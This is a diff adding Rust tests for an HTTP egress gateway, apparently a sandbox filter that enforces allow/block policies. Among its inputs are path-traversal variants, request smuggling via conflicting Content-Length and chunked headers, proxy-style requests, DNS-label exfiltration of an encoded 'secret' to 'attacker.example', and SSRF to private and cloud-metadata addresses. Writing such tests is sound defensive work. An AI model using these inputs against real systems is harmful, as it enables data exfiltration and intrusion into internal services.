@@ -1,0 +1,389 @@
+//! HTTP in the clear, by programs as they are.
+
+use std::io::{Read, Write};
+use std::net::{Ipv4Addr, UdpSocket};
+use std::sync::{Arc, Mutex};
+
+use serde_json::Value;
+
+use crate::world::{METADATA, OPEN, OTHER_PUBLIC, PRIVATE, PUBLIC, World, curl, http_server, say};
+
+fn json(body: &str) -> Value {
+    serde_json::from_str(body).unwrap_or_else(|error| panic!("{error}: {body}"))
+}
+
+#[test]
+fn what_is_asked_for_and_let_through_passes_as_it_was_sent() {
+    World::new(OPEN).run(
+        || http_server(PUBLIC, 80),
+        |inside, asked| {
+            let url = "http://allowed.example/a/b?c=d";
+            let (status, body, _) = curl(&["--data-binary", "hello", "-H", "X-Own: 1", url]);
+            assert_eq!((status.as_str(), body.as_str()), ("200", "hello"));
+            let (head, body) = asked.lock().unwrap().pop().unwrap();
+            assert!(head.starts_with("POST /a/b?c=d HTTP/1.1\r\n"), "{head}");
+            // Names of fields keep their case, a body its length.
+            for line in [
+                "Host: allowed.example\r\n",
+                "X-Own: 1\r\n",
+                "Content-Length: 5\r\n",
+            ] {
+                assert!(head.contains(line), "{head}");
+            }
+            assert!(!head.to_lowercase().contains("transfer-encoding"), "{head}");
+            assert_eq!(body, b"hello");
+            let (to, through, _) = inside.ruling();
+            assert!(through);
+            assert_eq!(to.address, Some(PUBLIC.into()));
+            assert_eq!(to.method.as_deref(), Some("POST"));
+            // What follows the `?` is nobody's to record.
+            assert_eq!(to.path.as_deref(), Some("/a/b"));
+            let (sent, received, error) = inside.ended();
+            assert_eq!(sent, (head.len() + body.len()) as u64);
+            assert!(received > 5 && error.is_none());
+        },
+    );
+}
+
+#[test]
+fn bodies_stream_in_chunks_or_by_length_in_both_directions() {
+    World::new(OPEN).run(
+        || http_server(PUBLIC, 80),
+        |_, asked| {
+            let (_, body, _) = curl(&["http://allowed.example/chunked"]);
+            assert_eq!(body, "onetwo");
+            let chunked = "Transfer-Encoding: chunked";
+            let (_, body, _) = curl(&[
+                "-H",
+                chunked,
+                "--data-binary",
+                "hello",
+                "http://allowed.example/",
+            ]);
+            assert_eq!(body, "hello");
+            let (head, _) = asked.lock().unwrap().pop().unwrap();
+            assert!(
+                head.to_lowercase().contains("transfer-encoding: chunked"),
+                "{head}"
+            );
+            let directory = tempfile::tempdir().unwrap();
+            let path = directory.path().join("large");
+            std::fs::write(&path, vec![b'x'; 20 << 20]).unwrap();
+            let data = format!("@{}", path.display());
+            let (status, body, _) = curl(&["--data-binary", &data, "http://allowed.example/"]);
+            assert_eq!((status.as_str(), body.len()), ("200", 20 << 20));
+        },
+    );
+}
+
+#[test]
+fn a_refusal_says_at_once_why_and_which_line_would_allow_it() {
+    let policy = "
+aegis-policy: 1
+network-egress:
+  - {id: reads, hosts: allowed.example, methods: GET, paths: /open/**, verdict: allow}
+  - {id: never, hosts: allowed.example, paths: /open/shut, verdict: block, reason: it is shut}
+";
+    World::new(policy).run(
+        || http_server(PUBLIC, 80),
+        |inside, asked| {
+            // Not in the profile.
+            let (status, body, output) = curl(&["http://denied.example:80/x"]);
+            assert!(output.status.success());
+            assert_eq!(status, "403");
+            let body = json(&body);
+            assert_eq!(
+                body["allow"],
+                "capabilities: {net.outbound: [\"http://denied.example\"]}"
+            );
+            assert_eq!(body["host"], "denied.example");
+            let (to, through, why) = inside.ruling();
+            assert!(
+                !through && why.contains("the profile does not ask for"),
+                "{why}"
+            );
+            assert_eq!(
+                (to.host.as_str(), to.path.as_deref()),
+                ("denied.example", Some("/x"))
+            );
+            // In the profile, and not in the policy.
+            let (status, body, _) = curl(&["-d", "x", "http://allowed.example/open/a"]);
+            assert_eq!(status, "403");
+            let allow = json(&body)["allow"].as_str().unwrap().to_owned();
+            assert!(
+                allow.starts_with("network-egress: [{") && allow.contains("\"POST\""),
+                "{allow}"
+            );
+            assert!(!inside.ruling().1);
+            // Refused by a rule.
+            let (status, body, _) = curl(&["http://allowed.example/open/shut"]);
+            assert_eq!(status, "403");
+            let body = json(&body);
+            assert_eq!(body["rules"], serde_json::json!(["never", "reads"]));
+            assert!(
+                body["reason"].as_str().unwrap().contains("it is shut"),
+                "{body}"
+            );
+            // A path that servers may read in another way is none that the rule allows.
+            for path in [
+                "/open/../shut",
+                "/open/%2e%2e/shut",
+                "/open//shut",
+                "/other",
+            ] {
+                let url = format!("http://allowed.example{path}");
+                assert_eq!(curl(&["--path-as-is", &url]).0, "403", "{path}");
+            }
+            assert!(asked.lock().unwrap().is_empty());
+            // A connection on which something was let through lets nothing else through.
+            let requests = "GET /open/a HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET /b HTTP/1.1\r\nHost: allowed.example\r\n\r\n";
+            let answers = say(inside.connect("allowed.example", 80), requests.as_bytes());
+            assert!(answers.starts_with("HTTP/1.1 200 Fine"), "{answers}");
+            assert_eq!(answers.matches("HTTP/1.1 403 ").count(), 1, "{answers}");
+            assert_eq!(asked.lock().unwrap().len(), 1);
+        },
+    );
+}
+
+#[test]
+fn a_refusal_of_a_large_upload_arrives_and_the_connection_is_closed() {
+    World::new(OPEN).run(
+        || {},
+        |inside, ()| {
+            let head = "POST / HTTP/1.1\r\nHost: denied.example\r\nContent-Length: 900000\r\n\r\n";
+            let words = [head.as_bytes(), &vec![b'x'; 900_000]].concat();
+            // All of it is written before anything is read.
+            let answer = say(inside.connect("denied.example", 80), &words);
+            assert!(
+                answer.starts_with("HTTP/1.1 403 ") && answer.ends_with("}\n"),
+                "{answer}"
+            );
+        },
+    );
+}
+
+#[test]
+fn each_request_of_a_connection_has_to_name_the_host_connected_to() {
+    let mut world = World::new(OPEN);
+    world.destinations.push("http://second.example");
+    world.hosts += &format!("{OTHER_PUBLIC} second.example\n");
+    world.run(
+        || (http_server(PUBLIC, 80), http_server(OTHER_PUBLIC, 80)),
+        |inside, (asked, of_second)| {
+            // Both are let through, and still not by each other's connection.
+            let first = "GET /1 HTTP/1.1\r\nHost: allowed.example\r\n\r\n";
+            let second = "GET /2 HTTP/1.1\r\nHost: second.example\r\n\r\n";
+            let pipelined = format!("{first}{first}{second}{first}");
+            let answer = say(inside.connect("allowed.example", 80), pipelined.as_bytes());
+            assert_eq!(answer.matches("HTTP/1.1 200 Fine").count(), 2, "{answer}");
+            assert_eq!(answer.matches("HTTP/1.1 403 ").count(), 1, "{answer}");
+            for hosts in [
+                "",
+                "Host: allowed.example\r\nHost: second.example\r\n",
+                "Host: allowed.example:81\r\n",
+            ] {
+                let words = format!("GET /3 HTTP/1.1\r\n{hosts}\r\n");
+                let answer = say(inside.connect("allowed.example", 80), words.as_bytes());
+                assert!(answer.starts_with("HTTP/1.1 403 "), "{hosts}: {answer}");
+            }
+            let asked = asked.lock().unwrap();
+            let heads: Vec<&str> = asked.iter().map(|(head, _)| &head[..6]).collect();
+            assert_eq!(heads, ["GET /1", "GET /1"]);
+            assert!(of_second.lock().unwrap().is_empty());
+        },
+    );
+}
+
+#[test]
+fn nobody_here_is_a_proxy() {
+    World::new(OPEN).run(
+        || http_server(PUBLIC, 80),
+        |inside, asked| {
+            for request in [
+                "CONNECT allowed.example:443 HTTP/1.1",
+                "TRACE / HTTP/1.1",
+                "GET http://allowed.example/ HTTP/1.1",
+                "GET http://denied.example/ HTTP/1.1",
+            ] {
+                let words = format!("{request}\r\nHost: allowed.example\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n");
+                let answer = say(inside.connect("allowed.example", 80), words.as_bytes());
+                assert!(answer.starts_with("HTTP/1.1 403 "), "{request}: {answer}");
+                assert_eq!(answer.matches("HTTP/1.1").count(), 1, "{request}: {answer}");
+            }
+            // What is not HTTP/1 at all.
+            for words in ["\x16\x03\x01\x02\x00\x01\x00\x01\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "SSH-2.0-x\r\n\r\n"] {
+                let answer = say(inside.connect("allowed.example", 80), words.as_bytes());
+                assert!(!answer.contains(" 200 "), "{answer}");
+            }
+            // Two ways to say where a request ends.
+            let smuggled = "POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
+            say(inside.connect("allowed.example", 80), format!("{smuggled}GET / HTTP/1.0\r\n\r\n").as_bytes());
+            for (head, body) in asked.lock().unwrap().iter() {
+                let lower = head.to_lowercase();
+                assert!(!(lower.contains("content-length") && lower.contains("chunked")), "{head}");
+                assert!(body.is_empty(), "{head}");
+            }
+        },
+    );
+}
+
+#[test]
+fn an_upgrade_goes_on_as_bytes_but_not_as_another_http() {
+    World::new(OPEN).run(
+        || http_server(PUBLIC, 80),
+        |inside, asked| {
+            let mut stream = inside.connect("allowed.example", 80);
+            let upgrade = |to: &str| format!("GET /ws HTTP/1.1\r\nHost: allowed.example\r\nConnection: Upgrade\r\nUpgrade: {to}\r\n\r\n");
+            stream.write_all(upgrade("websocket").as_bytes()).unwrap();
+            let mut head = Vec::new();
+            while !head.ends_with(b"\r\n\r\n") {
+                let mut byte = [0];
+                stream.read_exact(&mut byte).unwrap();
+                head.extend(byte);
+            }
+            assert!(head.starts_with(b"HTTP/1.1 101 "), "{head:?}");
+            stream.write_all(b"\x81\x05hello").unwrap();
+            let mut frame = [0; 7];
+            stream.read_exact(&mut frame).unwrap();
+            assert_eq!(&frame, b"\x81\x05hello");
+            drop(stream);
+            let (sent, _, error) = inside.ended();
+            assert!(sent > 7 && error.is_none(), "{error:?}");
+            let mut stream = inside.connect("allowed.example", 80);
+            stream.write_all(upgrade("h2c").as_bytes()).unwrap();
+            let mut answer = [0; 12];
+            stream.read_exact(&mut answer).unwrap();
+            assert_eq!(&answer, b"HTTP/1.1 200");
+            let (head, _) = asked.lock().unwrap().pop().unwrap();
+            assert!(!head.to_lowercase().contains("h2c"), "{head}");
+        },
+    );
+}
+
+#[test]
+fn a_server_that_closes_between_two_requests_is_connected_to_again() {
+    World::new(OPEN).run(
+        || http_server(PUBLIC, 80),
+        |inside, asked| {
+            let mut stream = inside.connect("allowed.example", 80);
+            let mut ask = |path: &str| {
+                write!(
+                    stream,
+                    "GET {path} HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
+                )
+                .unwrap();
+                let mut answer = Vec::new();
+                while !answer.ends_with(b"\r\n\r\n") {
+                    let mut byte = [0];
+                    stream.read_exact(&mut byte).unwrap();
+                    answer.extend(byte);
+                }
+                assert!(answer.starts_with(b"HTTP/1.1 200"), "{answer:?}");
+            };
+            ask("/close");
+            ask("/again");
+            ask("/again");
+            assert_eq!(asked.lock().unwrap().len(), 3);
+        },
+    );
+}
+
+#[test]
+fn what_cannot_be_reached_is_told_as_the_gateways_failure() {
+    let mut world = World::new(OPEN);
+    world.destinations.push("http://unknown.example");
+    world.run(
+        || {},
+        |inside, ()| {
+            let (status, body, _) = curl(&["http://allowed.example/"]);
+            assert_eq!(status, "502");
+            assert!(body.contains("refused"), "{body}");
+            assert!(inside.ruling().1);
+            assert!(inside.ended().2.unwrap().contains("refused"));
+            let (status, body, _) = curl(&["http://unknown.example/"]);
+            assert_eq!(status, "502");
+            assert!(body.contains("names no name server"), "{body}");
+        },
+    );
+}
+
+/// A name server of the host: it answers with the address that is in the cell, and keeps what it was asked.
+fn name_server(address: &Arc<Mutex<Ipv4Addr>>) -> Arc<Mutex<Vec<String>>> {
+    let socket = UdpSocket::bind("127.0.0.1:53").unwrap();
+    let (address, asked) = (address.clone(), Arc::<Mutex<Vec<String>>>::default());
+    let names = asked.clone();
+    std::thread::spawn(move || {
+        let mut packet = [0; 4096];
+        while let Ok((length, from)) = socket.recv_from(&mut packet) {
+            let answer = aegis_egress::dns::answer(&packet[..length], |name| {
+                names.lock().unwrap().push(name.to_owned());
+                *address.lock().unwrap()
+            });
+            if let Some(answer) = answer {
+                let _ = socket.send_to(&answer, from);
+            }
+        }
+    });
+    asked
+}
+
+#[test]
+fn nothing_is_asked_outside_before_it_is_let_through_and_a_name_leads_nowhere_private() {
+    let mut world = World::new(OPEN);
+    world.resolv_conf = "nameserver 127.0.0.1\n".to_owned();
+    world.destinations = vec![
+        "http://*.open.example",
+        "http://*.inner.example",
+        "http://169.254.169.254",
+    ];
+    for rule in [
+        "{id: inner, hosts: '*.inner.example', private-addresses: true, verdict: allow}",
+        "{id: metadata, hosts: 169.254.169.254, private-addresses: true, verdict: allow}",
+    ] {
+        world.policy += &format!("  - {rule}\n");
+    }
+    let address = Arc::new(Mutex::new(PRIVATE));
+    let set = address.clone();
+    world.run(
+        move || {
+            for address in [
+                PUBLIC,
+                PRIVATE,
+                METADATA[0],
+                METADATA[1],
+                Ipv4Addr::LOCALHOST,
+            ] {
+                http_server(address, 80);
+            }
+            name_server(&address)
+        },
+        |inside, asked| {
+            // Data in the labels of a name reaches nobody.
+            inside.address("c2VjcmV0.attacker.example");
+            assert_eq!(curl(&["http://c2VjcmV0.attacker.example/"]).0, "403");
+            assert!(asked.lock().unwrap().is_empty());
+            inside.ruling();
+            let get = |name: &str, at: Ipv4Addr| {
+                *set.lock().unwrap() = at;
+                let (status, body, _) = curl(&[&format!("http://{name}/")]);
+                let (to, through, _) = inside.ruling();
+                assert_eq!(through, status == "200", "{body}");
+                assert!(to.address.is_none_or(|address| address == at));
+                status
+            };
+            let [link_local, azure] = METADATA;
+            assert_eq!(get("a.open.example", PUBLIC), "200");
+            assert_eq!(get("b.open.example", PRIVATE), "403");
+            assert_eq!(get("c.open.example", Ipv4Addr::LOCALHOST), "403");
+            assert_eq!(get("d.open.example", link_local), "403");
+            assert_eq!(get("e.open.example", azure), "403");
+            // Not even where private addresses are let through.
+            assert_eq!(get("a.inner.example", PRIVATE), "200");
+            assert_eq!(get("b.inner.example", link_local), "403");
+            assert_eq!(get("c.inner.example", azure), "403");
+            assert_eq!(get("169.254.169.254", link_local), "200");
+            let asked = asked.lock().unwrap();
+            assert!(asked.iter().all(|name| name.ends_with(".example")));
+        },
+    );
+}
